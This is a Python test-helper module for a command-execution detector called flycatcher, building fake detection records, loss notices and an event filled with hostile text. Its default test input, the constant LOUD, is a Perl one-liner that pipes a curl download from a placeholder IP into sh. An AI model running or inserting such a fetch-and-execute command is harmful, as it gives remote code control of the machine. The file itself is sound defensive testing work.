"""Events for tests: detections of harmless one-liners, made by the core itself, and notices."""

from __future__ import annotations

from functools import cache
from typing import TYPE_CHECKING, Any

from msgspec import structs

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.reporting import record_of
from flycatcher.sinks.message import Event, event_of

if TYPE_CHECKING:
    from flycatcher.core.snippet import Snippet

__all__ = ["Snippet", "detection", "event", "hostile", "notice", "record"]
LOUD = 'system("curl -s http://198.51.100.7/x | sh")'


@cache
def _record(argv: tuple[str, ...], context: tuple[tuple[str, str], ...]) -> dict[str, Any]:
    execution = Execution(
        argv=argv,
        exe=f"/usr/bin/{argv[0]}",
        cwd="/srv/build",
        env={"TRACEPARENT": "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"},
        process=Process(pid=4242, start=99, comm=argv[0], uid=1000, gid=1000),
        ancestry=(Process(pid=4000, comm="make", exe="/usr/bin/make", argv=("make", "-j2")),),
        fidelity=Fidelity(
            sensor="seccomp", time="2026-11-29T10:00:00.000000Z", bytes_seen=9, bytes_total=9, happened="confirmed"
        ),
        context=dict(context),
    )
    found = detect(execution)
    assert found is not None
    return record_of(found)


def record(*argv: str, **context: str) -> dict[str, Any]:
    """Return the record of a detection; ``ci__job="x"`` is the context's ``ci.job``."""
    facts = {"host.name": "builder-7", "user.name": "ci"} | {
        key.replace("__", "."): text for key, text in context.items()
    }
    return dict(_record(argv or ("perl", "-e", LOUD), tuple(sorted(facts.items()))))


def detection(*argv: str, time: float = 1_796_000_000.25, uid: str = "", **context: str) -> Event:
    """Return a detection's event."""
    made = event_of(record(*argv, **context))
    return structs.replace(made, time=time, uid=uid or made.uid)


def notice(kind: str = "loss", **fields: Any) -> Event:
    """Return a notice's event."""
    said = {
        "schema": "flycatcher.notice/1", "kind": kind, "sensor": "ebpf", "time": "2026-11-29T10:00:00.000000Z",
        "text": "3 records were lost in the ring", "place": "ring", "count": 3, "since": "",
    }  # fmt: skip
    return structs.replace(event_of(said | fields), time=1_796_000_000.5, uid="1" * 32, host="builder-7")


def hostile(text: str) -> Event:
    """Return an event whose every text of foreign origin is the given one."""
    made = record()
    made["snippets"] = [dict(made["snippets"][0], text=text, option=text, vector="argument")]
    made["execution"] = dict(made["execution"], argv=["perl", "-e", text], cwd=text, exe=text)
    made["execution"]["context"] = {"host.name": text, "user.name": text, "ci.job": text, "container.name": text}
    made["execution"]["ancestry"] = [{"pid": 1, "comm": text, "argv": [text]}]
    made["risk"] = dict(made["risk"], reasons=[{"points": 9, "text": text}])
    return structs.replace(event_of(made), time=1_796_000_000.25, uid="a" * 32)


def event(number: int, time: float = 1_796_000_000.0) -> Event:
    """Return one of many small events."""
    return Event(
        uid=f"{number:032x}",
        time=time + number,
        kind="started",
        host="h",
        record={"kind": "started", "text": str(number)},
    )
